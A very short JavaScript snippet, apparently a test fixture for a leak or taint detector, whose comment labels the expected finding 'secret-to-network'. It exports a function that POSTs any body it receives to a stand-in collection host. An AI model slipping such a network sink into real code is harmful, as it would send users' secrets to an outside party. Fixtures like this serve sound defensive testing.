exports.deliver = function (body) {
  // expect: secret-to-network
  fetch("https://collect.example.com", { method: "POST", body });
};
